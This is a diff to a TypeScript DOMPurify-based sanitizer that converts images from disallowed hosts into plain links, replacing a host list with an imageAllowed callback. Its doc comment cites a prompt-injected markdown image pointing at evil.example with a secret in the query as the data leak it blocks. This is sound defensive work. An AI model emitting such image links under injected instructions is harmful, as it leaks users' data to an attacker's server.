@@ -1,14 +1,13 @@
 import createDOMPurify, { type Config, type DOMPurify } from 'dompurify';
-import { imageAllowed } from '../safe-url.js';
 
 export interface SanitizeOptions {
   /**
-   * Hosts images may load from besides the page's own (`imageAllowed`: `host`, `host:port` or `*`). Without it
-   * every `https:`/`http:` image loads. With it, an image from another host becomes a plain link to it
-   * (labelled with its alt text), so a prompt-injected `![](https://evil.example/?q=secret)` cannot leak data
-   * without a user's click. The elements always give it.
+   * Whether an image may load from its `src` (the elements give `imageAllowed` of `internal/safe-url.ts` with
+   * their hosts; passed in, so the engine's file shares no module with the panel's). Without it every
+   * `https:`/`http:` image loads. With it, an image it refuses becomes a plain link to it (labelled with its alt
+   * text), so a prompt-injected `![](https://evil.example/?q=secret)` cannot leak data without a user's click.
    */
-  imageHosts?: readonly string[];
+  imageAllowed?: (src: string) => boolean;
 }
 
 /** What markdown produces, plus harmless inline HTML. No forms, frames, media, SVG, MathML or styles. */
@@ -21,6 +20,9 @@ const CONFIG: Config = {
   ALLOWED_ATTR: 'href src alt title align start colspan rowspan class id name lang dir open width height'.split(' '),
   ALLOW_DATA_ATTR: false,
   SANITIZE_NAMED_PROPS: true,
+  // Parse as the content of a body, as the whole text is: a streamed part that starts with a comment or a stray
+  // end tag would otherwise be parsed before the body and lose the line break after it.
+  FORCE_BODY: true,
 };
 
 /** Absolute http(s), mailto and same-page fragments; relative URLs are refused, since the host page is unknown. */
@@ -33,7 +35,7 @@ function urlAsParsed(value: string): string {
 }
 
 let dedicated: DOMPurify | undefined;
-let imageHosts: readonly string[] | undefined;
+let imageAllowed: SanitizeOptions['imageAllowed'];
 
 /**
  * Our own DOMPurify instance (hooks on the global one would change how the host page's code sanitizes),
@@ -51,9 +53,9 @@ function instance(): DOMPurify {
     if (node.nodeName === 'A') {
       node.setAttribute('target', '_blank');
       node.setAttribute('rel', 'noopener noreferrer');
-    } else if (node.nodeName === 'IMG' && imageHosts) {
+    } else if (node.nodeName === 'IMG' && imageAllowed) {
       const src = node.getAttribute('src');
-      if (src && !imageAllowed(src, imageHosts)) {
+      if (src && !imageAllowed(src)) {
         // The link is inserted where the image was, so the sanitizer visits it next (and adds target and rel).
         const link = node.ownerDocument.createElement('a');
         link.href = src;
@@ -69,11 +71,11 @@ function instance(): DOMPurify {
 /** Runs `sanitize` with the image allowlist visible to the hooks (sanitizing is synchronous). */
 function withOptions<T>(options: SanitizeOptions, sanitize: (purify: DOMPurify) => T): T {
   const purify = instance();
-  imageHosts = options.imageHosts;
+  imageAllowed = options.imageAllowed;
   try {
     return sanitize(purify);
   } finally {
-    imageHosts = undefined;
+    imageAllowed = undefined;
   }
 }
 
